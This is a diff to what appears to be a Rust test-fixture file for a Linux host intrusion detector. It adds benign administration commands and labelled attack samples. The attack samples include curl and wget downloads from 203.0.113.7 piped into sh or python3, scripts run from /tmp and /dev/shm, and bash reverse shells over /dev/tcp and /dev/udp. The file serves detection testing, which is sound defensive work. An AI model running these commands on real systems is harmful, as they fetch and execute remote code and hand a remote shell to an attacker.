@@ -37,6 +37,12 @@ const DASH: &str = "/usr/bin/dash";
 
 /// Ordinary administration, each command as typed in a login shell or run by a service.
 pub const BENIGN: &[Command] = &[
+    // Port probes and health checks through bash's /dev/tcp: one-way redirections.
+    c(BASH, "timeout 1 bash -c '</dev/tcp/db1/5432'", BASH, LOGIN),
+    c(BASH, "bash -c 'echo > /dev/tcp/127.0.0.1/8080' >/dev/null 2>&1", BASH, LOGIN),
+    // Rotated logs cleaned up; PHP's mail() through sendmail.
+    c("/usr/bin/rm", "rm -f /var/log/syslog.1 /var/log/messages-20240101 /var/log/auth.log.2.gz", BASH, LOGIN),
+    c(DASH, "sh -c /usr/sbin/sendmail -t -i", "/usr/sbin/php-fpm8.2", "php-fpm: pool www"),
     c("/usr/bin/ls", "ls -l", BASH, LOGIN),
     c("/usr/bin/ls", "ls -la /etc/nginx/sites-enabled", BASH, LOGIN),
     c("/usr/bin/ps", "ps aux", BASH, LOGIN),
@@ -151,6 +157,11 @@ const WWW: &str = "/usr/sbin/nginx";
 const WWW_CMD: &str = "nginx: worker process";
 
 pub const ATTACKS: &[Attack] = &[
+    a("hids-linux-download-piped-to-shell", Level::High, c(DASH, "sh -c curl -s 'http://203.0.113.7/i?a=1&b=2' | sh", BASH, LOGIN)),
+    a("hids-linux-download-piped-to-shell", Level::High, c(DASH, "sh -c wget -qO- http://203.0.113.7/x.py | python3", BASH, LOGIN)),
+    a("hids-linux-script-from-writable", Level::Medium, c(DASH, "sh /tmp/.x/install.sh", BASH, LOGIN)),
+    a("hids-linux-script-from-writable", Level::Medium, c("/usr/bin/python3.11", "python3 /dev/shm/.k.py", BASH, LOGIN)),
+    a("hids-linux-service-spawns-shell", Level::High, c(DASH, "sh -c id", "/usr/bin/python3.11", "/usr/bin/python3 /srv/app/venv/bin/gunicorn app:app")),
     a("hids-linux-reverse-shell-bash-dev-tcp", Level::Critical, c(BASH, "bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'", DASH, "sh -c id")),
     a("hids-linux-reverse-shell-bash-dev-tcp", Level::Critical, c(DASH, "sh -c 'sh -i >& /dev/udp/203.0.113.7/53 0>&1'", BASH, LOGIN)),
     a("hids-linux-reverse-shell-bash-dev-tcp", Level::Critical, c(BASH, "bash -c 'exec 5<>/dev/tcp/203.0.113.7/80;cat <&5 | while read line; do $line 2>&5 >&5; done'", BASH, LOGIN)),
